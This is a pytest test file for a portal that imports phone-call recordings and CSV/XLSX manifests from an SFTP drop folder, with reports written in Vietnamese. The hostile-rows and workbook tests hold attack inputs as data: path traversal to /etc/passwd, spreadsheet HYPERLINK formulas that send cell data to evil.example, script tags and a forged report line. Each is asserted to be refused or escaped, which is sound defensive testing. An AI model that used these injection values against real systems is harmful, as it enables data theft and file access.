"""The drop folder as a phone system's SFTP landing uses it: batches taken once
settled, imported by external id, moved to done/ or failed/ with a report a person
reads; half-written files, missing files, hostile rows and two scans at once."""

import csv
import io
import os
import shutil
import time

import pytest
from openpyxl import Workbook

from portal.core.roles import Role
from portal.integrations import drop_folder, intake
from portal.integrations.models import DropBatch
from reviews.models import Interaction, InteractionChange
from tests.reviews.conftest import SAMPLES

WAV = (SAMPLES / "goi-cut-lun-hung.wav").read_bytes()
OTHER_WAV = (SAMPLES / "goi-tu-van-lan.wav").read_bytes()
HEADER = ["file_name", "agent_email", "occurred_at", "channel", "customer_ref"]


@pytest.fixture
def root(app, tmp_path, monkeypatch):
    monkeypatch.setitem(app.config, "DROP_FOLDER", str(tmp_path))
    monkeypatch.setitem(app.config, "DROP_SETTLE_SECONDS", 60)
    return tmp_path


@pytest.fixture
def agent(make):
    agent = make.user(Role.AGENT, team=make.team(), email="lan.nguyen@example.vn")
    agent.external_agent_id = "ext-207"
    make.db.session.commit()
    return agent


def later(seconds: float = 120) -> float:
    """A `now` past the settling time of everything written so far (no sleeping)."""
    return time.time() + seconds


def manifest_csv(rows: list[dict]) -> bytes:
    columns = HEADER + sorted({k for row in rows for k in row} - set(HEADER))
    out = io.StringIO()
    writer = csv.DictWriter(out, columns)
    writer.writeheader()
    writer.writerows(rows)
    return out.getvalue().encode("utf-8")


def row(file_name: str, **changes) -> dict:
    values = {
        "file_name": file_name,
        "agent_email": "Lan.Nguyen@example.vn",
        "occurred_at": "2026-11-20 09:30",  # Vietnam time, as in the web batch
        "channel": "phone",
        "customer_ref": "KH-0042",
    }
    values.update(changes)
    return values


def drop(root, name: str, rows: list[dict], files: dict[str, bytes]):
    folder = root / "incoming" / name
    folder.mkdir(parents=True)
    for file_name, data in files.items():
        (folder / file_name).write_bytes(data)
    (folder / "manifest.csv").write_bytes(manifest_csv(rows))
    return folder


def calls(db) -> list[Interaction]:
    db.session.expire_all()
    return db.session.query(Interaction).order_by(Interaction.external_id).all()


def test_a_complete_batch_is_imported_and_moved_to_done_with_a_report(root, db, agent):
    drop(
        root,
        "2026-11-20",
        [
            row("goi-1.wav"),
            row(
                "goi-2.wav",
                agent_email="",
                agent_external_id="ext-207",
                occurred_at="2026-11-20T10:00:00+07:00",
                direction="outbound",
                queue="Bán hàng",
                external_id="pbx-88",
                transcript="Dạ em chào anh.",
            ),
        ],
        {"goi-1.wav": WAV, "goi-2.wav": OTHER_WAV},
    )

    (batch,) = drop_folder.scan(now=later())

    assert (batch.state, batch.rows, batch.created, batch.updated, batch.refused) == (
        "done",
        2,
        2,
        0,
        0,
    )
    assert not (root / "incoming" / "2026-11-20").exists()
    done = root / "done" / "2026-11-20"
    assert sorted(p.name for p in done.iterdir()) == [
        "goi-1.wav",
        "goi-2.wav",
        "manifest.csv",
        "report.txt",
    ]
    report = (done / "report.txt").read_text(encoding="utf-8")
    assert report == batch.report
    assert "2 dòng: 2 tạo mới, 0 cập nhật, 0 bị từ chối." in report  # Vietnamese, the default
    assert "Dòng 2 · goi-1.wav · tạo mới" in report
    assert "Dòng 3 · goi-2.wav · tạo mới" in report

    first, second = sorted(calls(db), key=lambda i: i.external_id != "2026-11-20/goi-1.wav")
    assert (first.source, first.external_id, first.direction) == (
        "drop-folder",
        "2026-11-20/goi-1.wav",
        "inbound",
    )
    assert first.agent_id == agent.id and first.recording_file and first.duration_seconds
    assert first.occurred_at.isoformat() == "2026-11-20T02:30:00+00:00"  # local time → UTC
    assert (second.external_id, second.direction, second.queue) == (
        "pbx-88",
        "outbound",
        "Bán hàng",
    )
    assert second.agent_id == agent.id and second.transcript == "Dạ em chào anh."
    assert second.recording_bytes == len(OTHER_WAV)


def test_a_file_still_being_written_makes_the_batch_wait_until_a_later_run(root, db, agent):
    folder = drop(
        root, "dang-ghi", [row("goi-1.wav"), row("goi-2.wav")], {"goi-1.wav": WAV, "goi-2.wav": b""}
    )
    now = later()
    partial = folder / "goi-2.wav"
    partial.write_bytes(OTHER_WAV[: len(OTHER_WAV) // 2])
    os.utime(partial, (now - 5, now - 5))  # written to five seconds before the scan

    assert drop_folder.scan(now=now) == []
    assert folder.exists() and not calls(db)  # the whole batch waits, its good row too
    assert db.session.query(DropBatch).count() == 0

    partial.write_bytes(OTHER_WAV)  # the upload finishes
    os.utime(partial, (now, now))
    assert drop_folder.scan(now=now + 30) == []  # not yet still for a minute

    (batch,) = drop_folder.scan(now=now + 61)
    assert (batch.state, batch.created) == ("done", 2)
    (kept,) = [i for i in calls(db) if i.external_id == "dang-ghi/goi-2.wav"]
    assert kept.recording_bytes == len(OTHER_WAV)  # the whole file, not the half


def test_a_file_that_changes_between_the_look_and_the_claim_sends_the_batch_back(
    root, db, agent, monkeypatch
):
    drop(root, "tre", [row("goi-1.wav")], {"goi-1.wav": WAV})
    claim = drop_folder.claim

    def writer_wakes_up(root_, name):
        folder = claim(root_, name)
        with open(folder / "goi-1.wav", "ab") as handle:  # through a handle opened before
            handle.write(b"\0" * 100)
        return folder

    monkeypatch.setattr(drop_folder, "claim", writer_wakes_up)
    assert drop_folder.scan(now=later()) == []
    assert (root / "incoming" / "tre" / "goi-1.wav").exists() and not calls(db)


def test_a_row_naming_a_missing_file_is_refused_and_the_others_import(root, db, agent):
    drop(
        root,
        "thieu-tep",
        [row("goi-1.wav"), row("khong-co.wav"), row("goi-3.wav")],
        {"goi-1.wav": WAV, "goi-3.wav": OTHER_WAV},
    )

    (batch,) = drop_folder.scan(now=later())

    assert (batch.state, batch.rows, batch.created, batch.refused) == ("failed", 3, 2, 1)
    failed = root / "failed" / "thieu-tep"
    assert not (root / "done" / "thieu-tep").exists()
    report = (failed / "report.txt").read_text(encoding="utf-8")
    assert "Dòng 3 · khong-co.wav · bị từ chối: Tệp “khong-co.wav” không có trong thư mục" in report
    assert "Dòng 2 · goi-1.wav · tạo mới" in report and "Dòng 4 · goi-3.wav · tạo mới" in report
    assert "thả lại lô" in report  # what the person does next
    assert [i.external_id for i in calls(db)] == ["thieu-tep/goi-1.wav", "thieu-tep/goi-3.wav"]


def test_dropping_the_same_batch_again_updates_and_creates_nothing_new(root, db, agent):
    drop(
        root,
        "lo-1",
        [row("goi-1.wav"), row("goi-2.wav"), row("goi-3.wav")],
        {"goi-1.wav": WAV, "goi-2.wav": OTHER_WAV},
    )
    (first,) = drop_folder.scan(now=later())
    assert (first.state, first.created, first.refused) == ("failed", 2, 1)

    # A person adds the missing file, corrects a row, and drops the folder back in,
    # the portal's old report.txt still inside.
    again = root / "incoming" / "lo-1"
    shutil.copytree(root / "failed" / "lo-1", again)
    (again / "goi-3.wav").write_bytes(WAV)
    rows = [row("goi-1.wav", customer_ref="KH-0099"), row("goi-2.wav"), row("goi-3.wav")]
    (again / "manifest.csv").write_bytes(manifest_csv(rows))

    (second,) = drop_folder.scan(now=later())
    assert (second.state, second.created, second.updated, second.refused) == ("done", 1, 2, 0)
    assert len(calls(db)) == 3  # one per external id, never a copy
    (change,) = db.session.query(InteractionChange).all()
    assert change.by == "drop folder" and change.changes == {"customer_ref": ["KH-0042", "KH-0099"]}
    assert (root / "failed" / "lo-1" / "report.txt").exists()  # the first report kept

    shutil.copytree(root / "done" / "lo-1", again)  # and once more, unchanged
    (third,) = drop_folder.scan(now=later())
    assert (third.created, third.updated) == (0, 3) and len(calls(db)) == 3
    assert (root / "done" / "lo-1-2" / "report.txt").exists()  # the name taken: a suffix
    assert "0 tạo mới, 3 cập nhật" in (root / "done" / "lo-1-2" / "report.txt").read_text()
    assert "1 tạo mới, 2 cập nhật" in (root / "done" / "lo-1" / "report.txt").read_text()


def test_a_folder_without_a_manifest_or_a_hidden_one_is_left_alone(root, db, agent):
    lone = root / "incoming" / "chua-xong"
    lone.mkdir(parents=True)
    (lone / "goi-1.wav").write_bytes(WAV)
    hidden = drop(root, ".dang-tai", [row("goi-1.wav")], {"goi-1.wav": WAV})
    (root / "incoming" / "manifest.csv").write_bytes(manifest_csv([row("goi-1.wav")]))

    assert drop_folder.scan(now=later()) == []
    assert (lone / "goi-1.wav").exists() and (hidden / "manifest.csv").exists()
    assert not calls(db) and db.session.query(DropBatch).count() == 0


def test_hostile_rows_are_refused_or_stored_as_harmless_text(root, db, agent, tmp_path_factory):
    outside = tmp_path_factory.mktemp("outside") / "secret.wav"
    outside.write_bytes(WAV)
    folder = drop(
        root,
        "doc-hai",
        [
            row("../../etc/passwd"),
            row('=HYPERLINK("http://evil.example/?x="&A1,"Bấm")'),
            row("that-ra-la-chu.wav"),
            row("lien-ket.wav"),
            row("<script>alert(1)</script>.wav"),
            row("goi-1.wav", agent_email='=HYPERLINK("http://evil.example")'),
            row("goi-1.wav\nDòng 99 · gia.wav · tạo mới"),
            row("goi-2.wav", channel="fax", occurred_at="hôm qua", duration_seconds="-5"),
            row("goi-3.wav", customer_ref='<script>alert("x")</script>=1+2'),
        ],
        {"that-ra-la-chu.wav": b"RIFF but really just text\n" * 50, "goi-2.wav": WAV},
    )
    (folder / "goi-3.wav").write_bytes(OTHER_WAV)
    (folder / "lien-ket.wav").symlink_to(outside)

    (batch,) = drop_folder.scan(now=later())

    assert (batch.state, batch.created, batch.refused) == ("failed", 1, 8)
    report = batch.report
    lines = report.splitlines()
    assert "Dòng 2 · ../../etc/passwd · bị từ chối: Tên tệp phải là một tệp" in report
    assert "Dòng 4 · that-ra-la-chu.wav · bị từ chối: that-ra-la-chu.wav:" in report
    assert "Dòng 5 · lien-ket.wav · bị từ chối: Tệp “lien-ket.wav” không có" in report
    assert "agent_email: Not a valid email address." in report  # the API's own words
    assert not any(line.startswith("Dòng 99") for line in lines)  # no forged line
    row9 = next(line for line in lines if line.startswith("Dòng 9 "))
    assert "channel: Must be one of" in row9 and "occurred_at: Not a valid datetime." in row9
    assert "duration_seconds:" in row9
    (stored,) = calls(db)
    assert stored.customer_ref == '<script>alert("x")</script>=1+2'  # text, escaped when shown
    assert not (root / "failed" / "doc-hai" / "etc").exists()


def test_a_formula_cell_in_a_workbook_manifest_is_refused(root, db, agent):
    folder = root / "incoming" / "excel"
    folder.mkdir(parents=True)
    (folder / "goi-1.wav").write_bytes(WAV)
    (folder / "goi-2.wav").write_bytes(OTHER_WAV)
    book = Workbook()
    sheet = book.active
    sheet.append([*HEADER, "duration_seconds"])
    sheet.append(["goi-1.wav", "lan.nguyen@example.vn", "2026-11-20 09:30", "phone", "KH-1", 184])
    sheet.append(
        [
            "goi-2.wav",
            "lan.nguyen@example.vn",
            "2026-11-20 10:30",
            "phone",
            '=HYPERLINK("http://evil.example","x")',
        ]
    )
    book.save(folder / "manifest.xlsx")

    (batch,) = drop_folder.scan(now=later())

    assert (batch.state, batch.created, batch.refused) == ("failed", 1, 1)
    assert "Dòng 3 ·" in batch.report and "công thức" in batch.report
    assert "goi-2.wav · Không dòng nào" in batch.report  # its file left unimported
    (stored,) = calls(db)
    assert stored.duration_seconds == 184


def test_an_unreadable_manifest_fails_the_whole_batch_with_why(root, db, agent):
    drop(root, "sai-cot", [], {"goi-1.wav": WAV})
    (root / "incoming" / "sai-cot" / "manifest.csv").write_text("ten_tep,email\ngoi-1.wav,x\n")
    both = drop(root, "hai-ban", [row("goi-1.wav")], {"goi-1.wav": WAV})
    (both / "manifest.xlsx").write_bytes(b"PK\x03\x04 not really")

    batches = {b.name: b for b in drop_folder.scan(now=later())}

    assert {b.state for b in batches.values()} == {"failed"}
    assert "Không đọc được tệp danh sách" in batches["sai-cot"].report
    assert "file_name" in batches["sai-cot"].report  # the header it wants
    assert "manifest.csv hoặc manifest.xlsx" in batches["hai-ban"].report
    assert not calls(db)


def test_two_scans_at_once_never_import_a_batch_twice(root, db, agent, monkeypatch):
    drop(root, "a", [row("goi-1.wav"), row("goi-2.wav")], {"goi-1.wav": WAV, "goi-2.wav": WAV})
    drop(root, "b", [row("goi-1.wav")], {"goi-1.wav": OTHER_WAV})
    now = later()
    # The other worker looked at incoming/ at the same moment: it saw both batches ready.
    seen_by_other = drop_folder.ready(root, now=now)
    assert [name for name, _ in seen_by_other] == ["a", "b"]

    put, inner = intake.put_interaction, []

    def other_scan_meanwhile(*args, **kwargs):
        if not inner:  # while this scan imports batch a's first row, another scan runs
            inner.append("running")
            inner.append(drop_folder.scan(now=now))
        return put(*args, **kwargs)

    monkeypatch.setattr(intake, "put_interaction", other_scan_meanwhile)
    taken = drop_folder.scan(now=now)

    # The inner scan took b (a was already claimed), the outer one a; nothing twice.
    assert [b.name for b in inner[1]] == ["b"] and [b.name for b in taken] == ["a"]
    assert all(drop_folder.claim(root, name) is None for name, _ in seen_by_other)
    assert len(calls(db)) == 3 and db.session.query(DropBatch).count() == 2


def test_a_batch_a_dead_worker_left_in_processing_is_taken_again(root, db, agent):
    drop(root, "mo-coi", [row("goi-1.wav")], {"goi-1.wav": WAV})
    (root / "processing").mkdir()
    os.rename(root / "incoming" / "mo-coi", root / "processing" / "mo-coi")

    assert drop_folder.scan(now=later(120)) == []  # maybe still running elsewhere
    (batch,) = drop_folder.scan(now=later(600))  # quiet past JOB_STALLED_SECONDS
    assert batch.state == "done" and (root / "done" / "mo-coi" / "report.txt").exists()


def test_the_schedule_and_the_command_scan_only_when_configured(
    app, root, db, agent, runner, monkeypatch
):
    monkeypatch.setitem(app.config, "DROP_SETTLE_SECONDS", 0)
    drop(root, "lich", [row("goi-1.wav")], {"goi-1.wav": WAV})
    monkeypatch.setitem(app.config, "DROP_FOLDER", "")
    drop_folder.scan_on_schedule()
    assert (root / "incoming" / "lich").exists()
    off = runner.invoke(args=["portal", "scan-drop-folder"])
    assert off.exit_code != 0 and "PORTAL_DROP_FOLDER" in off.output

    monkeypatch.setitem(app.config, "DROP_FOLDER", str(root))
    drop_folder.scan_on_schedule()
    assert (root / "done" / "lich").exists() and len(calls(db)) == 1

    drop(root, "lenh", [row("goi-1.wav")], {"goi-1.wav": OTHER_WAV})
    done = runner.invoke(args=["portal", "scan-drop-folder"])
    assert done.exit_code == 0, done.output
    assert "lenh: done, 1 created, 0 updated, 0 refused" in done.output


def test_admins_read_each_batch_and_its_report(root, db, agent, login_as):
    drop(root, "<b>lo", [row("goi-1.wav"), row("<script>x</script>.wav")], {"goi-1.wav": WAV})
    drop_folder.scan(now=later())
    admin = login_as(Role.ADMIN)

    assert "/admin/integrations/drop-folder" in admin.get("/admin/integrations/").get_data(
        as_text=True
    )
    page = admin.get("/admin/integrations/drop-folder")
    html = page.get_data(as_text=True)
    assert page.status_code == 200
    assert "&lt;b&gt;lo" in html and "<b>lo" not in html
    assert "&lt;script&gt;x&lt;/script&gt;.wav" in html and "<script>x" not in html
    assert (
        "Cần xem lại" in html and "Dòng 3 · &lt;script&gt;x&lt;/script&gt;.wav · bị từ chối" in html
    )
    supervisor = login_as(Role.SUPERVISOR)
    assert supervisor.get("/admin/integrations/drop-folder").status_code == 403


def test_a_manifest_that_is_a_link_is_not_read(root, db, agent, tmp_path_factory):
    elsewhere = tmp_path_factory.mktemp("elsewhere") / "manifest.csv"
    elsewhere.write_bytes(manifest_csv([row("goi-1.wav")]))
    folder = root / "incoming" / "lien-ket"
    folder.mkdir(parents=True)
    (folder / "goi-1.wav").write_bytes(WAV)
    (folder / "manifest.csv").symlink_to(elsewhere)

    (batch,) = drop_folder.scan(now=later())

    assert batch.state == "failed" and "Không mở được tệp danh sách." in batch.report
    assert not calls(db)


def test_an_error_of_the_portal_mid_batch_fails_it_instead_of_retrying_for_ever(
    root, db, agent, monkeypatch
):
    drop(root, "loi", [row("goi-1.wav"), row("goi-2.wav")], {"goi-1.wav": WAV, "goi-2.wav": WAV})
    attach = intake.attach_recording
    attached = []

    def disk_full_on_the_second(interaction, stream, **kwargs):
        if attached:
            raise OSError(28, "No space left on device")
        attached.append(interaction.id)
        return attach(interaction, stream, **kwargs)

    monkeypatch.setattr(intake, "attach_recording", disk_full_on_the_second)
    (batch,) = drop_folder.scan(now=later())

    assert batch.state == "failed" and "hãy báo cho quản trị viên" in batch.report
    assert (root / "failed" / "loi" / "report.txt").exists()
    assert not list((root / "processing").iterdir())
